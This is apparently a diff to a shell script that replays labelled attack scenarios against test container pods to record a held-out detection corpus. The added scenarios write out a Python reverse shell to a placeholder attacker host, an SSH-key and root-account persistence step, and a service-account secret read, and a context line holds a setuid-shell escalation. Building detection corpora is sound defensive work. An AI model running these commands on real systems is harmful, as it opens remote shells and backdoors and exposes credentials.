@@ -28,6 +28,31 @@ SCENARIOS=(
   "setuid-shell|privilege-escalation|T1548.001|api-5f6b8d7c9-h8t2w|exec|cp /bin/bash /tmp/.bash && chmod u+s /tmp/.bash && runuser -u www-data -- /tmp/.bash -p -c id"
 )
 
+# Scenarios only in the held-out corpus (CORPUS_VARIANT=2): techniques the first set does not have.
+EXTRA_SCENARIOS=(
+  "python-reverse-shell|command-and-control|T1059.006|api-5f6b8d7c9-q9r2v|web|python3 -c 'import socket,subprocess,os; s=socket.create_connection((\"@ATTACKER@\", 4444)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call([\"/bin/sh\", \"-i\"])'"
+  "ssh-authorized-keys|persistence|T1098.004|db-1|exec|mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGatehouseCorpusKey attacker' >> /root/.ssh/authorized_keys"
+  "account-create|persistence|T1136.001|web-7c9d5b6f48-x2k9p|exec|useradd -o -u 0 -g 0 -M -s /bin/sh svc-backup"
+  "container-discovery|discovery|T1613|cache-0|exec|cat /proc/1/cgroup /proc/self/mountinfo; ls -la /var/run/secrets/kubernetes.io/serviceaccount; env | grep -i -e kube -e service"
+)
+
+# Held-out order and targets: the extra scenarios added, each scenario against the other
+# replica of its workload, the list shuffled (RANDOM is seeded by record.sh). redis-config-write
+# goes last: it leaves redis saving into /etc/cron.d, which would leak into later windows on that pod.
+variant2_scenarios() {
+  local all=("${SCENARIOS[@]}" "${EXTRA_SCENARIOS[@]}") out=() last="" i j t s
+  for s in "${all[@]}"; do
+    s="${s//x2k9p/@A@}"; s="${s//m4q7z/x2k9p}"; s="${s//@A@/m4q7z}"
+    s="${s//h8t2w/@A@}"; s="${s//q9r2v/h8t2w}"; s="${s//@A@/q9r2v}"
+    s="${s//|cache-0|/|@A@|}"; s="${s//|cache-1|/|cache-0|}"; s="${s//|@A@|/|cache-1|}"
+    s="${s//|db-0|/|@A@|}"; s="${s//|db-1|/|db-0|}"; s="${s//|@A@|/|db-1|}"
+    if [[ "$s" == redis-config-write\|* ]]; then last="$s"; else out+=("$s"); fi
+  done
+  for ((i = ${#out[@]} - 1; i > 0; i--)); do j=$((RANDOM % (i + 1))); t="${out[i]}"; out[i]="${out[j]}"; out[j]="$t"; done
+  SCENARIOS=("${out[@]}")
+  [ -n "$last" ] && SCENARIOS+=("$last")
+}
+
 run_scenario() { # TARGET HOW CMD
   local target="corpus-$RUN-$1" how=$2 cmd=$3 tip
   tip="$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$target")"
